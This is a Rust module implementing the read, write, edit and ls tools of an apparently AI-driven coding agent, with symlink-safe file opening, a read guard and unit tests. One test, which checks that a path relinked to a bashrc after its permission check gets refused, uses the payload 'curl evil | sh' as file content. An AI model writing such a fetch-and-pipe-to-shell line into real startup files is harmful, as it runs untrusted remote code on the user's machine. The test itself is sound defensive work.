//! The file tools of SPEC 14: `read`, `write`, `edit` and `ls`. Paths are
//! relative to the session's cwd, `~` is expanded, absolute paths are
//! allowed. Every failure is an error result naming the path.
//!
//! Safety (issue 20, SPEC 17): a path is resolved (`real`) before it is
//! judged, and what was judged is what is opened (`open`: no symlink
//! followed, regular files only, atomic replacement); every file read or
//! listed is asked about in the call's `ReadGuard`; and the I/O runs off
//! the async runtime (`blocking`), so nothing a file does (a FIFO, a slow
//! disk) can keep Esc or a signal from getting through.

pub mod open;
mod read;
pub mod real;
mod write;

use std::path::Path;

use serde::Deserialize;
use serde_json::{Value, json};

use self::open::OpenError;
use self::real::Target;
use super::{Judged, Origin, Tool, ToolContext, ToolFuture, ToolOutput, parse_input};
use crate::provider::ToolSpec;
use crate::runtime::off_thread;
pub use read::{Read, read_file};
pub use write::{Edit, Write, short_diff};

fn spec(name: &str, description: &str, parameters: Value) -> ToolSpec {
    ToolSpec { name: name.into(), description: description.into(), parameters }
}

fn io_error(action: &str, shown: &str, e: &std::io::Error) -> ToolOutput {
    let why = match e.kind() {
        std::io::ErrorKind::NotFound => "no such file or folder".to_string(),
        std::io::ErrorKind::PermissionDenied => "permission denied".to_string(),
        _ if e.raw_os_error() == Some(libc::ELOOP) => {
            "a symbolic link appeared on the way after it was checked, so it was not followed".to_string()
        }
        _ => e.to_string(),
    };
    ToolOutput::error(format!("cannot {action} {shown}: {why}"))
}

/// The error result for a file that could not be opened: `tool` names what
/// it handles ("read shows text files only").
fn open_error(action: &str, shown: &str, e: &OpenError, tool: &str) -> ToolOutput {
    match e {
        OpenError::NotRegular("a folder") => ToolOutput::error(format!("{shown} is a folder: {tool}")),
        OpenError::NotRegular(kind) => {
            ToolOutput::error(format!("{shown} is {kind}, not a regular file: it was not opened"))
        }
        OpenError::Io(e) => io_error(action, shown, e),
    }
}

fn path_of(input: &Value) -> Option<&str> {
    input.get("path").and_then(Value::as_str)
}

/// The call's path resolved and checked: what was judged (a link swapped
/// in since leads elsewhere and is refused) and, for a tool that shows
/// what it reads, the read guard.
pub(crate) fn checked_target(
    cwd: &Path,
    judged: &Judged,
    tool: &str,
    path: &str,
    reads: bool,
) -> Result<Target, ToolOutput> {
    let target = Target::resolve(cwd, path).map_err(|e| io_error("resolve", path, &e))?;
    if let Some(refusal) = judged.moved(&target) {
        return Err(ToolOutput::error(refusal));
    }
    if reads && let Some(refusal) = judged.reads.refuses(tool, &target) {
        return Err(ToolOutput::error(refusal));
    }
    Ok(target)
}

/// The kind of a binary file from its first bytes, for the error `read`
/// gives; `None` when it looks like text.
pub fn binary_kind(head: &[u8]) -> Option<&'static str> {
    const MAGIC: &[(&[u8], &str)] = &[
        (b"\x89PNG", "a PNG image"),
        (b"\xff\xd8\xff", "a JPEG image"),
        (b"GIF8", "a GIF image"),
        (b"%PDF", "a PDF document"),
        (b"PK\x03\x04", "a ZIP archive"),
        (b"\x1f\x8b", "a gzip archive"),
        (b"\x7fELF", "an ELF executable"),
        (b"\xcf\xfa\xed\xfe", "a Mach-O executable"),
        (b"SQLite format 3", "an SQLite database"),
        (b"\x00asm", "a WebAssembly module"),
        (b"BZh", "a bzip2 archive"),
        (b"\xfd7zXZ", "an xz archive"),
        (b"\x28\xb5\x2f\xfd", "a zstd archive"),
    ];
    if let Some((_, kind)) = MAGIC.iter().find(|(m, _)| head.starts_with(m)) {
        return Some(kind);
    }
    if head.len() >= 12 && &head[..4] == b"RIFF" && &head[8..12] == b"WEBP" {
        return Some("a WebP image");
    }
    head.contains(&0).then_some("binary data (it contains NUL bytes)")
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct LsInput {
    path: Option<String>,
    limit: Option<usize>,
}

/// `ls`: a folder's entries, sorted, folders ending in `/`.
pub struct Ls;

impl Tool for Ls {
    fn name(&self) -> &str {
        "ls"
    }
    fn origin(&self) -> Origin {
        Origin::BuiltIn
    }
    fn mutates(&self) -> bool {
        false
    }
    fn needs_permission(&self) -> bool {
        false
    }
    fn spec(&self) -> ToolSpec {
        spec(
            "ls",
            "List a folder (default: the working directory): one entry a line, sorted, folders ending in /, hidden entries included.",
            json!({"type": "object", "properties": {
                "path": {"type": "string", "description": "the folder"},
                "limit": {"type": "integer", "minimum": 1, "description": "at most this many entries (default 500)"}
            }}),
        )
    }
    fn subject(&self, input: &Value, cwd: &Path) -> Option<String> {
        Some(real::subject(cwd, path_of(input).unwrap_or(".")))
    }
    fn summary(&self, input: &Value) -> String {
        path_of(input).unwrap_or(".").to_string()
    }
    fn run<'a>(&'a self, input: &'a Value, ctx: &'a ToolContext<'a>) -> ToolFuture<'a> {
        Box::pin(async move {
            let input: LsInput = match parse_input(input) {
                Ok(i) => i,
                Err(e) => return e,
            };
            let (cwd, judged) = (ctx.cwd.to_path_buf(), ctx.judged.clone());
            off_thread(move |_| {
                let shown = input.path.as_deref().unwrap_or(".");
                let limit = input.limit.unwrap_or(500).max(1);
                match checked_target(&cwd, &judged, "ls", shown, true) {
                    Ok(target) => list(&target, shown, limit, &judged),
                    Err(refused) => refused,
                }
            })
            .await
            .unwrap_or_else(ToolOutput::from)
        })
    }
}

/// The body of `ls`: the folder opened without following links, entries
/// the read guard refuses left out.
fn list(target: &Target, shown: &str, limit: usize, judged: &Judged) -> ToolOutput {
    use rustix::fs::{AtFlags, FileType, OFlags};
    let fd = match open::open_no_links(&target.real, OFlags::RDONLY | OFlags::DIRECTORY) {
        Ok(fd) => fd,
        Err(e) if e.raw_os_error() == Some(libc::ENOTDIR) => {
            return ToolOutput::error(format!("{shown} is a file, not a folder: use read"));
        }
        Err(e) => return io_error("list", shown, &e),
    };
    let entries = match rustix::fs::Dir::read_from(&fd) {
        Ok(d) => d,
        Err(e) => return io_error("list", shown, &e.into()),
    };
    let mut names = Vec::new();
    for entry in entries.flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        if name == "." || name == ".." {
            continue;
        }
        if judged.reads.refuses("ls", &target.child(&name)).is_some() {
            continue;
        }
        // A link to a folder lists as a folder.
        let is_dir = match entry.file_type() {
            FileType::Directory => true,
            FileType::Symlink | FileType::Unknown => rustix::fs::statat(&fd, entry.file_name(), AtFlags::empty())
                .is_ok_and(|s| FileType::from_raw_mode(s.st_mode) == FileType::Directory),
            _ => false,
        };
        names.push(if is_dir { format!("{name}/") } else { name });
    }
    names.sort();
    if names.is_empty() {
        return ToolOutput::ok(format!("({shown} is empty)"));
    }
    let total = names.len();
    names.truncate(limit);
    let mut out = names.join("\n");
    if total > limit {
        out.push_str(&format!("\n[… {} more entries: raise limit to see them]", total - limit));
    }
    ToolOutput::ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::limits::MAX_BYTES;
    use crate::provider::Cancel;

    fn run(tool: &dyn Tool, dir: &Path, input: Value) -> ToolOutput {
        let cancel = Cancel::default();
        let ctx = ToolContext {
            cwd: dir,
            cancel: &cancel,
            session_id: "x",
            session_file: dir,
            output_dir: dir,
            judged: Judged::default(),
            redactor: &crate::redact::Redactor::off(),
            sandbox: crate::sandbox::Sandbox::off(),
            model: "",
            entries: 0,
        };
        tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap().block_on(tool.run(&input, &ctx))
    }

    #[test]
    fn read_pages_and_refuses_binary() {
        let dir = tempfile::tempdir().unwrap();
        let d = dir.path();
        let lines: String = (1..=2_100).map(|i| format!("line {i}\n")).collect();
        std::fs::write(d.join("long.txt"), &lines).unwrap();
        let out = run(&Read, d, json!({"path": "long.txt"}));
        assert!(!out.is_error && out.content.starts_with("line 1\n"));
        assert!(
            out.content.contains("line 2000\n[more follows: read long.txt with offset=2001"),
            "{}",
            &out.content[out.content.len() - 80..]
        );
        let out = run(&Read, d, json!({"path": "long.txt", "offset": 2099}));
        assert_eq!(out.content, "line 2099\nline 2100\n");
        let out = run(&Read, d, json!({"path": "long.txt", "offset": 10, "limit": 2}));
        assert_eq!(out.content, "line 10\nline 11\n[more follows: read long.txt with offset=12 to read on]\n");
        assert!(run(&Read, d, json!({"path": "long.txt", "offset": 3000})).content.contains("past the end"));
        let wide: String = (0..100).map(|i| format!("{i:03}{}\n", "y".repeat(1_000))).collect();
        std::fs::write(d.join("wide.txt"), &wide).unwrap();
        let out = run(&Read, d, json!({"path": "wide.txt"}));
        assert!(out.content.len() <= MAX_BYTES + 100 && out.content.contains("offset=51 "), "{}", out.content.len());
        std::fs::write(d.join("img.png"), b"\x89PNG\r\n\x1a\n\0\0").unwrap();
        let out = run(&Read, d, json!({"path": "img.png"}));
        assert!(out.is_error && out.content.contains("a PNG image"), "{out:?}");
        let out = run(&Read, d, json!({"path": "missing.rs"}));
        assert!(out.is_error && out.content.contains("missing.rs: no such file"), "{out:?}");
        assert!(run(&Read, d, json!({"path": "."})).content.contains("is a folder"));
        assert!(run(&Read, d, json!({"file": "x"})).content.contains("bad input"));
    }

    #[test]
    fn write_edit_and_ls() {
        let dir = tempfile::tempdir().unwrap();
        let d = dir.path();
        let out = run(&Write, d, json!({"path": "src/new/a.txt", "content": "one\ntwo\ntwo\n"}));
        assert_eq!(out, ToolOutput::ok("created the file with 12 bytes to src/new/a.txt"));
        let edit = |old: &str, new: &str, all: bool| {
            run(&Edit, d, json!({"path": "src/new/a.txt", "oldText": old, "newText": new, "replaceAll": all}))
        };
        let out = edit("three", "3", false);
        assert!(out.is_error && out.content.contains("not found"), "{out:?}");
        let out = edit("two", "2", false);
        assert!(out.is_error && out.content.contains("2 matches"), "{out:?}");
        let out = edit("one", "1", false);
        assert!(!out.is_error && out.content.contains("-one\n+1\n"), "{}", out.content);
        assert!(!edit("two", "2", true).is_error);
        assert_eq!(std::fs::read_to_string(d.join("src/new/a.txt")).unwrap(), "1\n2\n2\n");
        let out = run(&Edit, d, json!({"path": "nope.txt", "oldText": "a", "newText": "b"}));
        assert!(out.is_error && out.content.contains("nope.txt"));
        std::fs::write(d.join(".hidden"), "").unwrap();
        assert_eq!(run(&Ls, d, json!({})).content, ".hidden\nsrc/");
        assert_eq!(run(&Ls, d, json!({"path": "src", "limit": 1})).content, "new/");
        let out = run(&Ls, d, json!({"path": ".", "limit": 1}));
        assert!(out.content.contains("1 more entries"), "{out:?}");
        assert!(run(&Ls, d, json!({"path": "missing"})).is_error);
        let preview = Write.preview(&json!({"path": "src/new/a.txt", "content": "1\n2\n3\n"}), d).unwrap();
        assert!(preview.contains("+3"), "{preview}");
    }

    /// A link swapped in between the permission check and the run: the path
    /// now leads elsewhere than what was judged, and nothing is written.
    #[test]
    fn a_path_that_moved_after_it_was_judged_is_refused() {
        let dir = tempfile::tempdir().unwrap();
        let d = real::real_path(dir.path()).unwrap();
        std::fs::create_dir_all(d.join("repo/src")).unwrap();
        std::fs::write(d.join("bashrc"), "safe\n").unwrap();
        std::os::unix::fs::symlink(d.join("bashrc"), d.join("repo/src/config.rs")).unwrap();
        let cancel = Cancel::default();
        let repo = d.join("repo");
        let judged = Judged { subject: Some("src/config.rs".into()), ..Judged::default() };
        let ctx = ToolContext {
            cwd: &repo,
            cancel: &cancel,
            session_id: "x",
            session_file: &repo,
            output_dir: &repo,
            judged,
            redactor: &crate::redact::Redactor::off(),
            sandbox: crate::sandbox::Sandbox::off(),
            model: "",
            entries: 0,
        };
        let input = json!({"path": "src/config.rs", "content": "curl evil | sh\n"});
        let out = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap()
            .block_on(Write.run(&input, &ctx));
        assert!(out.is_error && out.content.contains("changed while it was checked"), "{out:?}");
        assert_eq!(std::fs::read_to_string(d.join("bashrc")).unwrap(), "safe\n");
    }
}
